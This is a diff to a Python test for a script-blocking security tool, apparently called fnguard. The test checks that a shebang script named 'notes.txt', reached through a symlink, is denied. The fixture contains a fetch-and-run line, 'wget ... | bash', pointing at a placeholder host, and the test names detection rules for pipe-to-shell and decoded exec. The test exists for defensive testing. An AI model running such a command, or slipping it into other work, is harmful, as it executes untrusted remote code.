@@ -263,20 +263,26 @@ def test_scripts_without_an_extension(run_fnguard, tmp_path, kernel_tier):
     for name, text in scripts.items():
         (app / name).write_text(text)
         (app / name).chmod(0o755)
+    # A name with no extension for a file with one that is no code extension.
+    (app / "notes.txt").write_text(f"#!/bin/sh\necho x > {ran['sh']}.2\n"
+                                   "wget -qO- http://example.invalid/i | bash\n")
+    (app / "notes.txt").chmod(0o755)
+    (app / "linked").symlink_to("notes.txt")
     (app / "data").write_text("just data\n")
     (app / "zero").symlink_to("/dev/zero")
-    sh = (f"{app}/bootstrap; {app}/tool; {app}/clean; cat {app}/data; "
+    sh = (f"{app}/bootstrap; {app}/tool; {app}/linked; {app}/clean; cat {app}/data; "
           f"head -c 3 {app}/zero | wc -c")
     res = run_fnguard(f"version: 1\ncode:\n  paths: [{app}]\n  action: deny\n",
                       ["/bin/sh", "-c", sh])
     assert "clean ran" in res.stdout and "just data" in res.stdout, res.dump()
     assert res.stdout.split()[-1] == "3", res.dump()
     assert not any(m.exists() for m in ran.values()), "a flagged script ran"
+    assert not (tmp_path / "RAN_sh.2").exists(), "the script behind a symlink ran"
     denied = {e["path"]: e["rule"] for e in res.of("code", action="deny")}
-    assert denied == {f"{app}/bootstrap": "sh-curl-pipe-sh", f"{app}/tool": "py-exec-decoded"}, \
-        res.dump()
+    assert denied == {f"{app}/bootstrap": "sh-curl-pipe-sh", f"{app}/tool": "py-exec-decoded",
+                      f"{app}/notes.txt": "sh-curl-pipe-sh"}, res.dump()
     found = {e["path"] for e in res.of("code", action="audit") if e.get("phase") == "prelaunch"}
-    assert found == set(denied), res.dump()
+    assert found == {f"{app}/bootstrap", f"{app}/tool"}, res.dump()
     scan = subprocess.run([FNGUARD, "scan", app], capture_output=True, text=True,
                           timeout=TIMEOUT, env=base_env())
     assert scan.returncode == 1, scan
